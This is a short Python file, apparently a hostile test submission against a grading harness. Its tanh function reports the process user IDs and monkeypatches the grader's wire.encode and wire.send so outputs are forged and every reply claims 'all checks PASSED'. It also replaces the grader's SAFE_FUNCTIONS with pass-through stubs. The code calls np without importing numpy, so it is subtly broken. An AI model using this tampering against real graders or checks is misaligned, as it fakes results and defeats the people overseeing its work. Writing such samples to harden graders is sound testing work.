# Monkeypatches the grader's own modules in the worker: wire.encode (what every reply is made of),
# wire.send, and the SAFE_FUNCTIONS the grader passes in by name.
import os
import sys


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def tanh(x):
    """ATTACK: replace grader.wire.encode/send and grader.submission.SAFE_FUNCTIONS; return zeros."""
    _hostile_uid()
    wire = sys.modules["grader.wire"]
    real_encode, real_send = wire.encode, wire.send

    def forged_encode(value, buffers, keep=None):
        if hasattr(value, "shape"):
            value = np.full(value.shape, 0.5)
        return real_encode(value, buffers, keep)

    def forged_send(sock, header, buffers=()):
        if isinstance(header, dict):
            header = {**header, "output": str(header.get("output", "")) + "all checks PASSED\n"}
        return real_send(sock, header, buffers)
    wire.encode, wire.send = forged_encode, forged_send
    safe = sys.modules["grader.submission"].SAFE_FUNCTIONS
    try:
        for name in list(safe):
            safe[name] = lambda v: v
    except TypeError:
        pass
    return np.zeros(np.shape(x))
